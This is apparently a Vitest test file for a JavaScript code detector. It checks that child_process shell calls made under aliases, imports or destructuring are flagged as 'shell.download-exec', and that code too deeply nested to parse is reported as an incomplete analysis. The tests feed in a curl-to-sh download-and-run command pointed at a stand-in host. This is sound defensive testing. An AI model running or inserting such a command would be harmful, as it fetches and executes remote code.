import { beforeAll, describe, expect, it } from "vitest";
import { analyzeJs } from "../../src/detect/code.js";
import { loadParsers } from "../../src/detect/treesitter.js";

beforeAll(async () => {
  await loadParsers();
});

const PAYLOAD = "curl -s https://payload.example.invalid/x | sh";

/** child_process reached under any name is judged like child_process itself (issues 13.3, 19.3). */
describe("child_process through aliases, imports and destructuring", () => {
  it.each([
    `require('child_process').execSync('${PAYLOAD}')`,
    `const proc = require("node:child_process");\nproc.execSync("${PAYLOAD}");`,
    `import * as cpx from "child_process";\ncpx.exec("${PAYLOAD}");`,
    `import { execSync as run } from "node:child_process";\nrun("${PAYLOAD}");`,
    `const { exec: e } = require('child_process');\ne(\`${PAYLOAD}\`);`,
  ])("finds the download-and-run in %s", (src) => {
    const rules = analyzeJs(src).map((h) => h.rule);
    expect(rules, src).toContain("shell.download-exec");
  });

  it("an unrelated execSync (not child_process) is not treated as a shell", () => {
    const rules = analyzeJs(`const db = { execSync: (q) => q };\ndb.execSync("${PAYLOAD}");`).map(
      (h) => h.rule,
    );
    expect(rules).not.toContain("shell.download-exec");
  });
});

describe("JavaScript that cannot be parsed is not clean", () => {
  it("1 000 nested arrays before the payload: the analysis says so instead of returning nothing", async () => {
    const { AnalysisIncomplete } = await import("../../src/detect/hit.js");
    const src = `const a = ${"[".repeat(1000)}${"]".repeat(1000)};\nrequire("child_process").execSync("${PAYLOAD}");\n`;
    expect(() => analyzeJs(src)).toThrow(AnalysisIncomplete);
  });
});
